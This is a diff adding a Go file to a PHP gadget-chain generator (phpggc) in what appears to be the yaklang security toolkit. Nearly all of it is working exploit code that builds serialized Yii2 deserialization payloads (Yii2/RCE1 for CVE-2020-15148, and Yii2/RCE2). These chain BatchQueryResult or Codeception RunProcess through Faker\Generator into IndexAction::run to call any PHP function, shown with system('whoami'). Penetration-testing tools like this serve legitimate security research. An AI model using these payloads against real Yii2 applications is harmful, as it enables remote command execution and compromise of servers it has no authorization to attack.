@@ -0,0 +1,49 @@
+package phpggc
+
+import (
+	"github.com/yaklang/yaklang/common/phpserx"
+)
+
+// indexAction is yii\rest\IndexAction, IndexAction::run calls checkAccess(id)
+func indexAction(function string, parameter string) *phpserx.PHPObject {
+	return phpserx.NewPHPObject(`yii\rest\IndexAction`,
+		phpserx.NewPHPProperty("checkAccess", phpserx.NewPHPString(function)),
+		phpserx.NewPHPProperty("id", phpserx.NewPHPString(parameter)),
+	)
+}
+
+// GetYii2RCE1Payload generate Yii2/RCE1 chain (CVE-2020-15148), BatchQueryResult::reset calls $_dataReader->close(),
+// which is Faker\Generator::__call and calls IndexAction::run
+// Example:
+// ```
+// payload = phpggc.GetYii2RCE1Payload("system", "whoami")~
+// raw = phpggc.ToBytes(payload)~
+// ```
+func GetYii2RCE1Payload(function string, parameter string) (*Payload, error) {
+	if err := checkFunction(function); err != nil {
+		return nil, err
+	}
+	generator := fakerGenerator("close", callable(indexAction(function, parameter), "run"))
+	result := phpserx.NewPHPObject(`yii\db\BatchQueryResult`,
+		phpserx.NewPHPPrivateProperty(`yii\db\BatchQueryResult`, "_dataReader", generator),
+	)
+	return newPayload("Yii2/RCE1", result), nil
+}
+
+// GetYii2RCE2Payload generate Yii2/RCE2 chain, RunProcess::stopProcess calls $process->isRunning(),
+// which is Faker\Generator::__call and calls IndexAction::run
+// Example:
+// ```
+// payload = phpggc.GetYii2RCE2Payload("system", "whoami")~
+// raw = phpggc.ToBytes(payload)~
+// ```
+func GetYii2RCE2Payload(function string, parameter string) (*Payload, error) {
+	if err := checkFunction(function); err != nil {
+		return nil, err
+	}
+	generator := fakerGenerator("isRunning", callable(indexAction(function, parameter), "run"))
+	process := phpserx.NewPHPObject(`Codeception\Extension\RunProcess`,
+		phpserx.NewPHPPrivateProperty(`Codeception\Extension\RunProcess`, "processes", phpserx.NewPHPList(generator)),
+	)
+	return newPayload("Yii2/RCE2", process), nil
+}